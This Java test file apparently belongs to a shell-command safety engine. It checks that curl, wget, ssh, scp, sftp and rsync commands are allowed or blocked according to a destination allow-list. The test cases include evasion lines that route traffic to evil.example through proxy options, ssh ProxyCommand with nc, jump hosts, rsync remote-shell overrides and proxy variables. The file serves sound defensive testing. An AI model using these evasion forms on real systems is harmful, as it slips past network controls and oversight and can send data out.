package dev.scc.safety;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Issue 13, classes 2, 4, 5 and 8 for the network tools: curl and wget read with their own option tables
 * (abbreviations, {@code --no-} negations, values that are not hosts), proxies from the environment, ssh
 * {@code -o} in every form ssh accepts, options after the ssh destination, and loopback in any IPv6 spelling.
 * NetworkDifferentialIT holds the same readings to the real tools.
 */
class NetworkGrammarTest {
    static final SafetyEngine SESSION = new SafetyEngine(SafetyPolicyLoader.parse(
            "{\"allowed_destinations\":[\"github.com\",\"*.npmjs.org\"]}", "test"),
            Map.of("HTTP_PROXY", "http://scc-s1-proxy:3128", "https_proxy", "http://scc-s1-proxy:3128"));

    @TestFactory
    Stream<DynamicTest> optionGrammarOfCurlAndWget() {
        return Cases.table(SESSION, new String[][] {
            // values are not hosts (false positives of the old reading)
            {"wget --max-redirect 2 https://github.com/x", "allow"},
            {"curl --parallel-max 5 -Z https://github.com/a https://github.com/b", "allow"},
            {"curl --retry 3 --retry-delay 2 https://github.com/", "allow"},
            {"wget --tries 3 --wait 1 -O out https://github.com/x", "allow"},
            {"wget -e robots=off https://github.com/x", "allow"},
            {"wget -nv -nc https://github.com/x", "allow"},
            // unix sockets: the host in the URL is only a header
            {"curl --unix-socket /var/run/docker.sock http://docker/v1.41/containers/json", "allow"},
            {"curl --abstract-unix-socket scc http://api/x", "allow"},
            {"curl --unix-socket /run/x.sock -x http://evil.example:1 http://api/x", "network.curl"},
            // abbreviations and negations as the tools accept them
            {"curl --prox http://evil.example:3128 https://github.com/", "network.curl"}, // ambiguous: curl refuses, so do we
            {"curl --proxy=http://evil.example:3128 https://github.com/", "network.curl"},
            {"curl --socks5-h evil.example:1080 https://github.com/", "network.curl"},
            {"curl --ur https://evil.example/", "network.curl"},
            {"curl --conn evil.example:443:github.com:443 https://github.com/", "network.curl"}, // ambiguous prefix
            {"curl --connect-t github.com:443:evil.example:443 https://github.com/", "network.curl"},
            {"curl --res github.com:443:10.0.0.1 https://github.com/", "network.curl"},
            {"curl --no-location https://github.com/", "allow"},
            {"curl -sSLKcfg https://github.com/", "network.curl"},
            {"curl -sx evil.example:1 https://github.com/", "network.curl"},
            {"curl --vers", "allow"},
            {"curl -o x -- https://evil.example/", "network.curl"},
            {"wget --input-f=urls.txt", "network.wget"},
            {"wget --execute=https_proxy=http://evil.example:1 https://github.com/", "network.wget"},
            {"wget -e 'HTTPS-Proxy = http://evil.example:1' https://github.com/", "network.wget"},
            {"wget --no-proxy https://github.com/", "allow"},
            {"wget --post-data evil.example https://github.com/", "allow"},
            {"wget https://github.com/ --output-document=- https://evil.example/", "network.wget"},
            // proxies written before the command
            {"https_proxy=http://evil.example:3128 curl https://github.com/", "network.curl"},
            {"env ALL_PROXY=socks5h://evil.example:1080 curl https://github.com/", "network.curl"},
            {"HTTPS_PROXY=http://localhost:3128 curl https://github.com/", "allow"},
            {"https_proxy=http://evil.example:3128 curl --noproxy '*' --version", "allow"},
        });
    }

    @TestFactory
    Stream<DynamicTest> sshOptionForms() {
        return Cases.table(SESSION, new String[][] {
            {"ssh -o ' ProxyCommand=nc evil.example 22' github.com", "network.ssh"},
            {"ssh -o '\"ProxyCommand\" nc evil.example 22' github.com", "network.ssh"},
            {"ssh -oProxyCommand=nc\\ evil.example\\ 22 github.com", "network.ssh"},
            {"ssh -o 'proxycommand\t=nc x' github.com", "network.ssh"},
            {"ssh github.com -o ProxyCommand='nc evil.example 22'", "network.ssh"},
            {"ssh github.com -oHostName=evil.example", "network.ssh"},
            {"ssh github.com -J evil.example", "network.ssh"},
            {"ssh -o ProxyJump=git@github.com:22 github.com", "allow"},
            {"ssh -o 'ProxyJump evil.example' github.com", "network.ssh"},
            {"ssh -J github.com:2222 github.com", "allow"},
            {"ssh -J none github.com", "allow"},
            {"ssh -o ControlPath=/tmp/c github.com", "network.ssh"},
            {"ssh -o CanonicalizeHostname=yes github.com", "network.ssh"},
            {"ssh -o 'CanonicalDomains evil.example' github.com", "network.ssh"},
            {"ssh github.com ls -o ProxyCommand=x", "allow"}, // after the remote command: an argument of ls
            {"ssh github.com -- -o ProxyCommand=x", "allow"},
            {"scp -o 'ProxyJump=evil.example' f github.com:x", "network.scp"},
            {"sftp -oHostname=evil.example github.com", "network.sftp"},
            {"ssh -G -o ProxyCommand=x evil.example", "allow"},
        });
    }

    @TestFactory
    Stream<DynamicTest> rsyncRemoteShellAndVariables() {
        return Cases.table(SESSION, new String[][] {
            {"rsync -av src/ github.com:dst/", "allow"},
            {"rsync -av -e 'ssh -o ProxyCommand=nc\\ evil.example\\ 22' src/ github.com:dst/", "network.rsync"},
            {"rsync -avze 'ssh -J evil.example' src/ github.com:dst/", "network.rsync"},
            {"rsync --rsh='ssh -p 2222' src/ github.com:dst/", "allow"},
            {"rsync -e 'nc evil.example 22' src/ github.com:dst/", "network.rsync"},
            {"RSYNC_RSH='ssh -oHostName=evil.example' rsync src/ github.com:dst/", "network.rsync"},
            {"RSYNC_CONNECT_PROG='nc evil.example 873' rsync github.com::mod/ dst/", "network.rsync"},
            {"RSYNC_PROXY=evil.example:3128 rsync rsync://github.com/mod/ dst/", "network.rsync"},
            {"RSYNC_PROXY=evil.example:3128 rsync src/ github.com:dst/", "allow"}, // over ssh: no proxy
            {"rsync -e 'ssh -o ProxyCommand=x' a/ b/", "allow"}, // local copy: no remote shell runs
        });
    }

    @TestFactory
    Stream<DynamicTest> ipv6Loopback() {
        return Cases.table(SESSION, new String[][] {
            {"curl http://[::1]:8080/", "allow"},
            {"curl http://[0:0:0:0:0:0:0:1]/", "allow"},
            {"curl http://[0::1]/", "allow"},
            {"curl http://[::0001]/", "allow"},
            {"curl 'http://[::1%25lo]/'", "allow"},
            {"curl http://[::ffff:127.0.0.1]/", "allow"},
            {"curl http://[::ffff:7f00:1]/", "allow"},
            {"ssh ::1", "allow"},
            {"scp f [::1]:/tmp/", "allow"},
            {"curl http://[::2]/", "network.curl"},
            {"curl http://[::ffff:10.0.0.1]/", "network.curl"},
            {"curl http://[fe80::1%25eth0]/", "network.curl"},
            {"curl http://[2001:db8::1]/", "network.curl"},
        });
    }

    @Test
    void proxyOfTheSessionIsTrustedAndAnyOtherIsADestination() {
        assertThat(SESSION.evaluateArgv(List.of("curl", "https://github.com/"), Map.of("HTTP_PROXY", "http://scc-s1-proxy:3128"))
                .decision()).isEqualTo(Decision.ALLOW);
        Verdict v = SESSION.evaluateArgv(List.of("curl", "https://github.com/"), Map.of("HTTPS_PROXY", "http://evil.example:3128"));
        assertThat(v.rule()).contains("network.curl");
        assertThat(v.reason()).contains("evil.example");
        assertThat(SESSION.evaluateArgv(List.of("wget", "https://github.com/"), Map.of("https_proxy", "http://10.1.2.3:1"))
                .decision()).isEqualTo(Decision.BLOCK);
        assertThat(SESSION.evaluateArgv(List.of("wget", "--no-proxy", "https://github.com/"), Map.of("https_proxy", "http://10.1.2.3:1"))
                .decision()).isEqualTo(Decision.ALLOW);
    }

    @Provide
    Arbitrary<String> curlProxySpelling() {
        // every prefix of --proxy that curl 7.88 reads as --proxy (exact name wins over proxy-*, so only "proxy" itself)
        // and the forms of giving it a value
        return Arbitraries.of("-x evil.example:1", "-xevil.example:1", "--proxy evil.example:1", "--proxy=evil.example:1",
                "-sSx evil.example:1", "--preproxy evil.example:1", "--socks5 evil.example:1", "--socks5-hostname evil.example:1",
                "--socks4a evil.example:1", "--proxy1.0 evil.example:1", "--socks5-hostn evil.example:1");
    }

    @Property(tries = 200)
    void aProxyOptionInAnyPositionIsADestination(@ForAll("curlProxySpelling") String proxy,
            @ForAll("harmlessCurlOptions") List<String> before, @ForAll("harmlessCurlOptions") List<String> after) {
        String line = "curl " + String.join(" ", before) + " " + proxy + " " + String.join(" ", after) + " https://github.com/";
        Verdict v = SESSION.evaluateLine(line);
        assertThat(v.decision()).as(line).isEqualTo(Decision.BLOCK);
    }

    @Provide
    Arbitrary<List<String>> harmlessCurlOptions() {
        return Arbitraries.of("-s", "-S", "-L", "--retry 2", "--max-time 5", "-o out", "--no-progress-meter", "-H 'X: y'",
                "--parallel-max 5", "--compressed", "--no-location", "-fsSL", "--user-agent x", "--connect-timeout 3")
                .list().ofMaxSize(4);
    }

    @Property(tries = 200)
    void harmlessOptionsNeverMakeAnAllowedTransferBlocked(@ForAll("harmlessCurlOptions") List<String> opts) {
        String line = "curl " + String.join(" ", opts) + " https://github.com/x";
        assertThat(SESSION.evaluateLine(line).decision()).as(line).isEqualTo(Decision.ALLOW);
    }

    @Test
    void sshAsksSshForItsEffectiveConfigurationAndJudgesIt() {
        assertThat(SESSION.aliasQuery(List.of("ssh", "-p", "22", "github.com", "uptime"))).contains(List.of("-G", "-p", "22", "github.com",
                "uptime"));
        assertThat(SESSION.aliasQuery(List.of("ssh", "evil.example"))).isEmpty(); // blocked on the argv already
        assertThat(SESSION.aliasQuery(List.of("ssh", "-G", "github.com"))).isEmpty();
        List<String> argv = List.of("ssh", "gh");
        assertThat(SESSION.evaluateResolvedArgv(argv, 0, "user git\nhostname github.com\nproxycommand none\n").decision())
                .isEqualTo(Decision.BLOCK); // "gh" itself is not an allowed destination
        SafetyEngine aliasAllowed = new SafetyEngine(SafetyPolicyLoader.parse("{\"allowed_destinations\":[\"github.com\",\"gh\"]}", "t"));
        assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxycommand none\n").decision())
                .isEqualTo(Decision.ALLOW);
        assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname evil.example\n").rule()).contains("network.ssh");
        assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxyjump 10.0.0.1:22\n").rule())
                .contains("network.ssh");
        assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxycommand nc x 22\n").rule())
                .contains("network.ssh");
        assertThat(aliasAllowed.evaluateResolvedArgv(argv, 255, "").rule()).contains("shell.unparseable");
    }

    @Test
    void scpAndSftpAskTheSshTheyStartForItsEffectiveConfiguration() {
        assertThat(SESSION.aliasQuery(List.of("scp", "-P", "2200", "-o", "User=x", "-4", "-l", "100", "-r", "f", "git@github.com:r/f")))
                .contains(List.of("-G", "-o", "User=x", "-4", "-p", "2200", "-l", "git", "--", "github.com"));
        assertThat(SESSION.aliasQuery(List.of("scp", "scp://u@github.com:2201/x", "f")))
                .contains(List.of("-G", "-p", "2201", "-l", "u", "--", "github.com"));
        assertThat(SESSION.aliasQuery(List.of("sftp", "-P2202", "-J", "github.com", "github.com:dir")))
                .contains(List.of("-G", "-J", "github.com", "-p", "2202", "--", "github.com"));
        assertThat(SESSION.aliasQuery(List.of("sftp", "sftp://github.com"))).contains(List.of("-G", "--", "github.com"));
        assertThat(SESSION.aliasQuery(List.of("scp", "a", "b"))).isEmpty(); // a local copy contacts nobody
        assertThat(SESSION.aliasQuery(List.of("sftp", "-D", "/usr/lib/sftp-server", "x"))).isEmpty(); // a local server
        assertThat(SESSION.aliasQuery(List.of("scp", "f", "evil.example:x"))).isEmpty(); // blocked on the argv already
    }

    @Test
    void scpAndSftpAreJudgedByTheConfigurationSshPrints() {
        SafetyEngine aliasAllowed = new SafetyEngine(SafetyPolicyLoader.parse("{\"allowed_destinations\":[\"github.com\",\"gh\"]}", "t"));
        for (List<String> argv : List.of(List.of("scp", "f", "gh:x"), List.of("sftp", "gh"))) {
            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxycommand none\n").decision()).as("" + argv)
                    .isEqualTo(Decision.ALLOW);
            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname evil.example\n").rule()).as("" + argv).contains("network.ssh");
            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxyjump 10.0.0.1:22\n").rule()).as("" + argv)
                    .contains("network.ssh");
            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxycommand nc x 22\n").rule()).as("" + argv)
                    .contains("network.ssh");
            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 255, "").rule()).as("" + argv).contains("shell.unparseable");
        }
        // two remotes: ssh's configuration is resolved for one host per command, so the copy is refused (fail closed)
        assertThat(aliasAllowed.evaluateResolvedArgv(List.of("scp", "gh:x", "github.com:y"), 0, "hostname github.com\n").rule())
                .contains("shell.unparseable");
    }
}
